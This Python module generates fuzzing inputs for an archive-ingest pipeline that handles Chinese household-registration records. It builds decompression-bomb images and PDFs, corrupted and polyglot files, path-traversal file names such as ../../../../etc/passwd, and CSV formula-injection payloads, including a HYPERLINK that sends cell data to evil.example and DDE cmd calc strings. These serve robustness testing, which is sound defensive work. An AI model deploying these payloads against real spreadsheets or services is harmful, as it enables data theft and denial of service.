"""Malformed ingest inputs for bench/fuzz_ingest.py and tests/test_fuzz_ingest.py, made here
(outside the product packages) and deterministic for a seed.

Two kinds of case:

* FileCase: one scan (truncated or bit-flipped PDF, TIFF — multi-frame too —, PNG or JPEG; a
  decompression bomb; absurd dimensions; a wrong extension; zero bytes; a polyglot) with a
  valid manifest row of its own. `target` is "" for a fresh 档号, or "baseline" when the case
  re-ingests a file already in the index with a file that cannot be opened at all: what was
  there must stay (nothing already ingested is lost). (A file whose first page is good and a
  later one bad is ingested page by page by design, tests/test_image_limits.py: its good pages
  replace the old ones, whose text stays in page_versions; so it is not sent for a baseline
  档号.)
* ManifestCase: a manifest whose bytes are the attack (GBK, Big5, UTF-16 with and without BOM,
  invalid UTF-8, NUL bytes, missing columns, duplicate 档号, formula injection, over-long
  fields, deep JSON nesting, wrong JSON shapes), with the small valid scans it names.

Every seed file is small (a text-layer PDF needs no OCR, an image is a few hundred pixels), so a
thousand cases run through the real pipeline in minutes.
"""
from __future__ import annotations

import csv
import io
import json
import random
import struct
import sys
import zlib
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

import pymupdf
from PIL import Image, ImageDraw

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.synth.render import _pdf_font, load_cjk_font  # noqa: E402

UNIT = "北京市公安局海淀分局"
CATEGORY = "户籍档案"
LINES = ["常住人口登记表 模糊测试样本", "户主姓名 王建国 与户主关系 本人", "住址 北京市海淀区学院路"]


@dataclass(frozen=True)
class FileCase:
    family: str
    name: str  # the file name in the batch folder (the extension may lie)
    data: bytes
    target: str = ""  # "baseline": re-ingests a file already in the index


@dataclass(frozen=True)
class ManifestCase:
    family: str
    name: str  # manifest.csv / manifest.json
    data: bytes
    files: dict[str, bytes] = field(default_factory=dict)


def row(archive_no: str, file: str, **over: object) -> dict[str, object]:
    """A valid manifest row (the fuzz runner's own rows, and the bad manifests' good cells)."""
    return {"档号": archive_no, "题名": f"模糊测试档案{archive_no}", "门类": CATEGORY,
            "单位": UNIT, "年度": 2020, "密级": "内部", "文件": file, **over}


# --- valid seeds ------------------------------------------------------------------------------

@lru_cache(maxsize=None)
def text_pdf(pages: int = 2) -> bytes:
    """A born-digital PDF: a real text layer (no OCR), small pages."""
    doc = pymupdf.open()
    font = _pdf_font()
    for p in range(pages):
        page = doc.new_page(width=300, height=200)
        tw = pymupdf.TextWriter(page.rect)
        for i, line in enumerate(LINES):
            tw.append((12, 30 + 22 * i), f"{line} 第{p + 1}页", font=font, fontsize=10)
        tw.write_text(page)
    return doc.tobytes(garbage=3, deflate=True)


@lru_cache(maxsize=None)
def page_image(width: int = 360, height: int = 110) -> Image.Image:
    img = Image.new("L", (width, height), 235)
    draw = ImageDraw.Draw(img)
    font = load_cjk_font(22)
    draw.text((10, 10), "户籍登记 模糊测试", fill=20, font=font)
    draw.text((10, 55), "档号 FZ-2020-01", fill=30, font=font)
    return img


def encode(img: Image.Image, fmt: str, **kw: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **kw)
    return buf.getvalue()


@lru_cache(maxsize=None)
def seeds() -> dict[str, bytes]:
    """Valid files to mutate, by family name (the key is also the extension)."""
    img = page_image()
    frames = [img, img.rotate(180), img.point(lambda v: 255 - v)]
    return {
        "pdf": text_pdf(),
        "scan.pdf": _image_pdf(img),
        "png": encode(img, "PNG"),
        "jpg": encode(img, "JPEG", quality=80),
        "tif": encode(img, "TIFF", compression="tiff_lzw"),
        "multi.tif": encode(frames[0], "TIFF", save_all=True, append_images=frames[1:],
                            compression="packbits"),
        "g4.tif": encode(img.point(lambda v: 255 if v > 128 else 0).convert("1"), "TIFF",
                         compression="group4"),
    }


def _image_pdf(img: Image.Image) -> bytes:
    doc = pymupdf.open()
    page = doc.new_page(width=img.width * 72 / 150, height=img.height * 72 / 150)
    page.insert_image(page.rect, stream=encode(img, "PNG"))
    return doc.tobytes(deflate=True)


def ext_of(seed: str) -> str:
    return seed.rsplit(".", 1)[-1]


# --- mutations --------------------------------------------------------------------------------

def truncate(data: bytes, rng: random.Random) -> bytes:
    cut = rng.choice([1, 4, 8, 16, 64, 200, len(data) // 10, len(data) // 2,
                      len(data) * 9 // 10, len(data) - 1, len(data) - rng.randint(2, 40)])
    return data[:max(0, cut)]


def bitflip(data: bytes, rng: random.Random) -> bytes:
    out = bytearray(data)
    n = rng.choice([1, 2, 4, 8, 32, 128])
    header = rng.random() < 0.5  # half the flips land in the first 256 bytes (headers, tables)
    for _ in range(n):
        i = rng.randrange(min(len(out), 256) if header else len(out))
        out[i] ^= 1 << rng.randrange(8)
    return bytes(out)


def splice(data: bytes, rng: random.Random) -> bytes:
    """A chunk zeroed, duplicated or replaced by random bytes."""
    out = bytearray(data)
    i = rng.randrange(len(out))
    j = min(len(out), i + rng.randint(1, 512))
    how = rng.randrange(3)
    if how == 0:
        out[i:j] = bytes(j - i)
    elif how == 1:
        out[i:i] = out[i:j]
    else:
        out[i:j] = rng.randbytes(j - i)
    return bytes(out)


MUTATIONS = {"truncated": truncate, "bitflip": bitflip, "splice": splice}


# --- crafted files ----------------------------------------------------------------------------

def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_size(width: int, height: int, *, idat: bytes | None = None, depth: int = 8,
                  color: int = 0) -> bytes:
    """A PNG whose header claims width × height; the data is a zlib bomb of zero rows, cut."""
    if idat is None:
        z = zlib.compressobj(9)
        block = bytes(65_536)  # the first ~32 MB of zero rows, inflating from ~32 KB
        idat = b"".join(z.compress(block) for _ in range(500)) + z.flush()
    return (b"\x89PNG\r\n\x1a\n"
            + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
            + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b""))


def zlib_bomb_png(side: int) -> bytes:
    """A real, complete PNG of side × side black pixels: a few KB inflating to side² bytes."""
    z = zlib.compressobj(9)
    line = b"\x00" * (side + 1)
    body = b"".join(z.compress(line) for _ in range(side)) + z.flush()
    return png_with_size(side, side, idat=body)


def jpeg_with_size(width: int, height: int) -> bytes:
    """A real JPEG whose SOF0 header is rewritten to claim width × height."""
    data = bytearray(seeds()["jpg"])
    at = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def tiff_frames(*sizes: tuple[int, int]) -> bytes:
    """A multi-frame TIFF: the first frame is a harmless page, each later frame's header claims
    its size (a bomb behind a harmless first page)."""
    img = page_image()
    frames = [img] + [Image.new("L", (8, 8), 200) for _ in sizes]
    data = bytearray(encode(frames[0], "TIFF", save_all=True, append_images=frames[1:]))
    # Rewrite ImageWidth (256) / ImageLength (257) in IFDs 2.. (little-endian "II*").
    offset = struct.unpack_from("<I", data, 4)[0]
    for n in range(len(frames)):
        count = struct.unpack_from("<H", data, offset)[0]
        for k in range(count):
            at = offset + 2 + 12 * k
            tag, typ = struct.unpack_from("<HH", data, at)
            if n and tag in (256, 257):
                w, h = sizes[n - 1]
                value = w if tag == 256 else h
                if typ == 3:  # SHORT
                    struct.pack_into("<HHIHH", data, at, tag, 4, 1, 0, 0)  # make it LONG
                struct.pack_into("<I", data, at + 8, value)
        offset = struct.unpack_from("<I", data, offset + 2 + 12 * count)[0]
        if not offset:
            break
    return bytes(data)


def tiff_ifd_loop() -> bytes:
    """A TIFF whose second IFD points back to the first: an endless frame chain."""
    img = page_image()
    data = bytearray(encode(img, "TIFF", save_all=True, append_images=[img]))
    first = struct.unpack_from("<I", data, 4)[0]
    count = struct.unpack_from("<H", data, first)[0]
    second = struct.unpack_from("<I", data, first + 2 + 12 * count)[0]
    count2 = struct.unpack_from("<H", data, second)[0]
    struct.pack_into("<I", data, second + 2 + 12 * count2, first)
    return bytes(data)


def pdf_with_mediabox(width: float, height: float) -> bytes:
    doc = pymupdf.open()
    page = doc.new_page(width=min(width, 14400), height=min(height, 14400))
    if width * height < 1e7:
        page.insert_text((10, 30), "大页面 FUZZ", fontname="china-s", fontsize=12)
    data = doc.tobytes()
    return data.replace(f"/MediaBox [ 0 0 {min(width, 14400):g} {min(height, 14400):g} ]".encode(),
                        f"/MediaBox [ 0 0 {width:g} {height:g} ]".encode())


def encrypted_pdf() -> bytes:
    doc = pymupdf.open(stream=text_pdf(), filetype="pdf")
    return doc.tobytes(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="secret", owner_pw="owner")


def pdf_many_pages(n: int) -> bytes:
    doc = pymupdf.open()
    for _ in range(n):
        doc.new_page(width=50, height=50)
    return doc.tobytes(garbage=1)


def pdf_flate_bomb(megabytes: int) -> bytes:
    """A one-page PDF whose content stream inflates to `megabytes` MB of no-op operators."""
    body = zlib.compress(b"q Q " * (megabytes * 262_144), 9)
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream"]
    return _pdf(objs)


def pdf_image_bomb(side: int) -> bytes:
    """A text-layer page with an embedded image XObject claiming side × side pixels."""
    z = zlib.compress(bytes(side) * 1, 9)
    text = b"BT /F1 12 Tf 10 150 Td (FUZZ TEXT LAYER WITH ENOUGH CHARACTERS 12345) Tj ET q 100 0 0 100 10 10 cm /Im1 Do Q"
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
            b"/Resources << /Font << /F1 6 0 R >> /XObject << /Im1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
            b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % (side, side, len(z))
            + z + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    return _pdf(objs)


def _pdf(objs: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def crafted() -> list[FileCase]:
    """Hand-made hostile files (each once)."""
    s = seeds()
    gif = encode(page_image(), "GIF")
    bmp = encode(page_image(), "BMP")
    webp = encode(page_image(), "WEBP")
    cases = [
        ("bomb-png-zlib", "bomb.png", zlib_bomb_png(12_000)),  # 144 MP, ~150 KB
        ("bomb-png-header", "huge.png", png_with_size(100_000, 100_000)),
        ("absurd-png-max", "max.png", png_with_size(0x7FFFFFFF, 0x7FFFFFFF)),
        ("absurd-png-zero", "zero.png", png_with_size(0, 0)),
        ("absurd-png-1x1000000", "thin.png", png_with_size(1, 1_000_000)),
        ("absurd-png-depth", "depth.png", png_with_size(100, 100, depth=7)),
        ("absurd-png-color", "color.png", png_with_size(100, 100, color=5)),
        ("bomb-jpeg-header", "huge.jpg", jpeg_with_size(65_000, 65_000)),
        ("absurd-jpeg-zero", "zero.jpg", jpeg_with_size(0, 0)),
        ("absurd-jpeg-thin", "thin.jpg", jpeg_with_size(65_000, 1)),
        ("bomb-tiff-frame2", "frame2.tif", tiff_frames((60_000, 60_000))),
        ("bomb-tiff-frame3", "frame3.tif", tiff_frames((10, 10), (100_000, 50_000))),
        ("absurd-tiff-zero", "zero.tif", tiff_frames((0, 0))),
        ("tiff-ifd-loop", "loop.tif", tiff_ifd_loop()),
        ("absurd-pdf-mediabox", "huge.pdf", pdf_with_mediabox(200_000, 200_000)),
        ("absurd-pdf-negative", "neg.pdf", pdf_with_mediabox(-500, 300)),
        ("absurd-pdf-zero", "flat.pdf", pdf_with_mediabox(0, 0)),
        ("pdf-encrypted", "locked.pdf", encrypted_pdf()),
        ("pdf-too-many-pages", "many.pdf", pdf_many_pages(5_001)),
        ("bomb-pdf-flate", "flate.pdf", pdf_flate_bomb(64)),
        ("bomb-pdf-image", "xobject.pdf", pdf_image_bomb(40_000)),
        ("pdf-no-pages", "empty.pdf", _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                           b"<< /Type /Pages /Kids [] /Count 0 >>"])),
        ("pdf-header-only", "header.pdf", b"%PDF-1.7\n%%EOF\n"),
        ("polyglot-jpeg-pdf", "poly.jpg", s["jpg"][:200] + b"%PDF-1.4\n" + s["jpg"][200:]),
        ("wrong-type-gif", "scan.gif", gif), ("wrong-type-bmp", "scan.bmp", bmp),
        ("wrong-type-webp", "scan.webp", webp),
        ("wrong-type-html", "scan.pdf", b"<html><body>not a scan</body></html>"),
        ("wrong-type-zip", "scan.tif", b"PK\x03\x04" + bytes(100)),
        ("wrong-type-text", "scan.png", "这不是图像文件\n".encode() * 20),
        ("wrong-type-gbk", "scan.jpg", "档案".encode("gbk") * 50),
    ]
    out = [FileCase(f, n, d) for f, n, d in cases]
    # Wrong extensions: each valid seed under every other extension (read by its bytes).
    for seed, data in s.items():
        for ext in ("pdf", "png", "docx", ""):
            if ext != ext_of(seed):
                out.append(FileCase("wrong-extension", f"as-{seed.replace('.', '-')}.{ext}".rstrip("."), data))
    for ext in ("pdf", "png", "jpg", "jpeg", "tif", "tiff", ""):
        out.append(FileCase("zero-bytes", f"empty.{ext}".rstrip("."), b""))
    # The files that cannot be read, sent for 档号 already in the index.
    for f, n, d in [("zero-bytes", "e.pdf", b""), ("wrong-type-text", "t.pdf", b"not a pdf"),
                    ("pdf-encrypted", "l.pdf", encrypted_pdf()),
                    ("bomb-png-header", "b.png", png_with_size(100_000, 100_000)),
                    ("truncated", "c.pdf", text_pdf()[:40]),
                    ("bomb-jpeg-header", "j.jpg", jpeg_with_size(65_000, 65_000))]:
        out.append(FileCase(f"baseline-{f}", f"base-{n}", d, target="baseline"))
    return out


# Mutated seeds: IMAGE_MUTATIONS of each image seed (TIFF, multi-frame TIFF, Group 4 TIFF,
# PNG, JPEG, a scanned PDF) -- cut short, flipped in the first 256 bytes (headers, tables) or,
# one in IMAGE_BODY_EVERY, flipped or spliced anywhere --, then the born-digital PDF (whose text
# layer needs no OCR) mutated every way until there are n cases. A mutated image that still
# decodes runs through Tesseract, ~30 s a page on the shared 2-core machine, so their number is
# what bounds the run's time.
IMAGE_SEEDS = ("png", "jpg", "tif", "multi.tif", "g4.tif", "scan.pdf")
IMAGE_MUTATIONS = 20
IMAGE_BODY_EVERY = 5


def header_flip(data: bytes, rng: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(rng.choice([1, 2, 4, 8])):
        out[rng.randrange(min(len(out), 256))] ^= 1 << rng.randrange(8)
    return bytes(out)


def file_cases(n: int, seed: int = 12) -> list[FileCase]:
    """The crafted cases, then mutated seeds until there are `n` cases in all."""
    rng = random.Random(seed)
    out = crafted()
    plan = [(name, k) for k in range(IMAGE_MUTATIONS) for name in IMAGE_SEEDS]
    i = 0
    while len(out) < n:
        if i < len(plan):
            seed_name, k = plan[i]
            how = ("bitflip", "splice")[k // IMAGE_BODY_EVERY % 2] if k % IMAGE_BODY_EVERY == 0 \
                else rng.choice(("truncated", "header-flip"))
        else:
            # cut short one time in six: pymupdf repairs a truncated PDF, but often without
            # its fonts, so the page is rendered and OCR'd
            seed_name, how = "pdf", ("truncated", "bitflip", "splice", "bitflip", "splice",
                                     "bitflip")[i % 6]
        data = {"header-flip": header_flip, **MUTATIONS}[how](seeds()[seed_name], rng)
        out.append(FileCase(f"{how}-{seed_name}", f"m{i:05d}.{ext_of(seed_name)}", data))
        i += 1
    return out[:n] if n < len(out) else out


# --- manifests --------------------------------------------------------------------------------

HEADER = ["档号", "题名", "门类", "单位", "年度", "密级", "文件"]


def _csv(rows: list[list[object]], header: list[str] = HEADER) -> str:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def _cells(r: dict[str, object]) -> list[object]:
    return [r[h] for h in HEADER]


def manifest_cases(prefix: str, seed: int = 12) -> list[ManifestCase]:
    """Bad manifests; `prefix` makes their 档号 unique to the run. Each names its own small
    valid text PDF, so a manifest that is (rightly) accepted ingests something real."""
    rng = random.Random(seed)
    pdf = text_pdf(1)
    out: list[ManifestCase] = []
    n = iter(range(1, 10_000))

    def add(family: str, name: str, data: bytes, files: tuple[str, ...] = ("a.pdf",)) -> None:
        out.append(ManifestCase(family, name, data, {f: pdf for f in files}))

    def an() -> str:
        return f"{prefix}-M{next(n):04d}"

    # Encodings
    good = _csv([_cells(row(an(), "a.pdf"))])
    for enc in ("gbk", "gb18030", "big5", "utf-16-le", "utf-16-be", "utf-32", "shift_jis"):
        text = _csv([_cells(row(an(), "a.pdf", 题名="户籍檔案 編碼測試"))]) if enc == "big5" \
            else _csv([_cells(row(an(), "a.pdf"))])
        add(f"encoding-{enc}", "manifest.csv", text.encode(enc, errors="replace"))
    add("encoding-utf-16-bom", "manifest.csv", _csv([_cells(row(an(), "a.pdf"))]).encode("utf-16"))
    add("encoding-utf-8-bom", "manifest.csv", b"\xef\xbb\xbf" + _csv([_cells(row(an(), "a.pdf"))]).encode())
    add("encoding-double-bom", "manifest.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + good.encode())
    add("encoding-json-gbk", "manifest.json",
        json.dumps([row(an(), "a.pdf")], ensure_ascii=False).encode("gbk"))
    add("encoding-json-utf-16", "manifest.json",
        json.dumps([row(an(), "a.pdf")], ensure_ascii=False).encode("utf-16"))
    for k in range(12):
        raw = bytearray(_csv([_cells(row(an(), "a.pdf"))]).encode())
        for _ in range(1 + k):
            raw.insert(rng.randrange(len(raw)), rng.choice([0x80, 0xC0, 0xFF, 0xFE, 0xE4, 0xED]))
        add("encoding-invalid-utf8", "manifest.csv", bytes(raw))
    add("encoding-random-bytes", "manifest.csv", rng.randbytes(600))
    add("encoding-nul", "manifest.csv", good.replace("模糊", "模\x00糊").encode())
    add("encoding-nul-json", "manifest.json",
        json.dumps([row(an(), "a.pdf", 题名="空\x00字符")], ensure_ascii=False).encode())
    add("encoding-cr-only", "manifest.csv", _csv([_cells(row(an(), "a.pdf"))]).replace("\r\n", "\r").encode())
    add("encoding-surrogate-json", "manifest.json",
        ('[{"档号": "%s", "题名": "\\ud800孤立代理", "门类": "户籍档案", "单位": "%s", "年度": 2020, '
         '"密级": "内部", "文件": "a.pdf"}]' % (an(), UNIT)).encode())
    # Structure
    add("structure-empty", "manifest.csv", b"")
    add("structure-bom-only", "manifest.csv", b"\xef\xbb\xbf")
    add("structure-header-only", "manifest.csv", ",".join(HEADER).encode())
    add("structure-blank-lines", "manifest.csv", b"\n\n\n")
    for col in HEADER:
        hdr = [h for h in HEADER if h != col]
        r = row(an(), "a.pdf")
        add(f"missing-column-{col}", "manifest.csv", _csv([[r[h] for h in hdr]], hdr).encode())
    r = row(an(), "a.pdf")
    add("missing-values", "manifest.csv", _csv([[r["档号"], "", "", "", "", "", "a.pdf"]]).encode())
    add("extra-cells", "manifest.csv", _csv([_cells(row(an(), "a.pdf")) + ["多", "余", "列"]]).encode())
    add("short-row", "manifest.csv", _csv([[an(), "题名"]]).encode())
    add("duplicate-header", "manifest.csv",
        _csv([[an(), an()] + _cells(row("x", "a.pdf"))[1:]], ["档号", "档号"] + HEADER[1:]).encode())
    add("unknown-headers", "manifest.csv", _csv([["1", "2", "3"]], ["foo", "bar", "baz"]).encode())
    add("wide-header", "manifest.csv", _csv([_cells(row(an(), "a.pdf")) + ["v"] * 5000],
                                            HEADER + [f"列{i}" for i in range(5000)]).encode())
    add("unclosed-quote", "manifest.csv", (",".join(HEADER) + f'\n{an()},"未闭合的引号,户籍档案\n').encode())
    # Duplicate 档号 (two files, one 档号: the second would overwrite the first's pages)
    dup = an()
    add("duplicate-archive-no", "manifest.csv",
        _csv([_cells(row(dup, "a.pdf")), _cells(row(dup, "b.pdf"))]).encode(), ("a.pdf", "b.pdf"))
    dup = an()
    add("duplicate-archive-no-json", "manifest.json", json.dumps(
        [row(dup, "a.pdf"), row(dup, "b.pdf", 题名="另一份")], ensure_ascii=False).encode(),
        ("a.pdf", "b.pdf"))
    dup = an()
    add("duplicate-archive-no-spaced", "manifest.csv",
        _csv([_cells(row(dup, "a.pdf")), _cells(row(f" {dup} ", "b.pdf"))]).encode(), ("a.pdf", "b.pdf"))
    add("duplicate-file", "manifest.csv",
        _csv([_cells(row(an(), "a.pdf")), _cells(row(an(), "a.pdf"))]).encode())
    # Formula (CSV) injection in every text cell
    for payload in ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
                    "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1"):
        for col in ("档号", "题名", "单位", "当事人"):
            r = row(an(), "a.pdf", 当事人="")
            r[col] = payload if col != "档号" else payload + r["档号"]
            hdr = HEADER + (["当事人"] if col == "当事人" else [])
            add(f"formula-{col}", "manifest.csv", _csv([[r[h] for h in hdr]], hdr).encode())
    # Over-long and odd fields
    for col, size in (("档号", 129), ("档号", 10_000), ("题名", 100_000), ("单位", 5_000),
                      ("当事人", 10_000), ("文件", 5_000), ("题名", 200_000), ("年度", 400)):
        r = row(an(), "a.pdf", 当事人="")
        r[col] = (str(r.get(col, "")) + "长" * size)[:size] if col not in ("年度", "文件") else \
            ("2" * size if col == "年度" else "长" * size + ".pdf")
        hdr = HEADER + (["当事人"] if col == "当事人" else [])
        add(f"over-long-{col}", "manifest.csv", _csv([[r[h] for h in hdr]], hdr).encode())
    for label, value in (("control", "档\x07号\x1b[31m"), ("newline", "FZ\nNEWLINE"),
                         ("hash", "FZ#p0001"), ("slash", "FZ/../../x"), ("rtl", "FZ\u202eGNP"),
                         ("zero-width", "FZ\u200b"), ("space-only", "   "), ("percent", "%s%n%x")):
        add(f"odd-archive-no-{label}", "manifest.csv",
            _csv([_cells(row(f"{an()}{value}" if label != "space-only" else value, "a.pdf"))]).encode())
    for label, year in (("float", "2020.5"), ("huge", "9" * 30), ("negative", "-5"), ("zero", "0"),
                        ("fullwidth", "２０２０"), ("chinese", "二〇二〇"), ("exp", "2e3"),
                        ("future", "99999")):
        add(f"year-{label}", "manifest.csv", _csv([_cells(row(an(), "a.pdf", 年度=year))]).encode())
    add("category-traditional", "manifest.csv", _csv([_cells(row(an(), "a.pdf", 门类="戶籍檔案"))]).encode())
    add("classification-unknown", "manifest.csv", _csv([_cells(row(an(), "a.pdf", 密级="绝密"))]).encode())
    for label, name in (("absolute", "/etc/hostname"), ("traversal", "../../../../etc/passwd"),
                        ("missing", "no-such-file.pdf"), ("dir", "."), ("nul", "a\x00.pdf"),
                        ("name-too-long", "长" * 300 + ".pdf")):
        add(f"file-{label}", "manifest.csv", _csv([_cells(row(an(), name))]).encode())
    # JSON shapes
    for label, doc in (("not-json", b"{not json"), ("string", b'"manifest"'), ("number", b"42"),
                       ("null", b"null"), ("list-of-lists", b"[[1,2,3]]"),
                       ("files-not-list", b'{"files": {"a": 1}}'), ("empty-list", b"[]"),
                       ("deep-nesting", b"[" * 100_000 + b"]" * 100_000),
                       ("deep-object", '[{"档号": '.encode() + b"[" * 50_000 + b"]" * 50_000 + b"}]"),
                       ("nan-year", ('[{"档号": "%s", "题名": "t", "门类": "户籍档案", "单位": "u", '
                                     '"年度": NaN, "密级": "内部", "文件": "a.pdf"}]' % an()).encode()),
                       ("inf-year", ('[{"档号": "%s", "题名": "t", "门类": "户籍档案", "单位": "u", '
                                     '"年度": 1e400, "密级": "内部", "文件": "a.pdf"}]' % an()).encode()),
                       ("bool-year", json.dumps([row(an(), "a.pdf", 年度=True)], ensure_ascii=False).encode()),
                       ("huge-int-year", json.dumps([row(an(), "a.pdf", 年度=10 ** 40)]).encode()),
                       ("nested-values", json.dumps([row(an(), "a.pdf", 题名=["a", {"b": 1}],
                                                        单位={"x": "y"})], ensure_ascii=False).encode()),
                       ("number-archive-no", json.dumps([row(12345, "a.pdf")], ensure_ascii=False).encode()),
                       ("null-values", json.dumps([row(an(), "a.pdf", 题名=None, 单位=None)],
                                                  ensure_ascii=False).encode()),
                       ("file-not-string", json.dumps([row(an(), ["a.pdf"])], ensure_ascii=False).encode())):
        add(f"json-{label}", "manifest.json", doc)
    return out
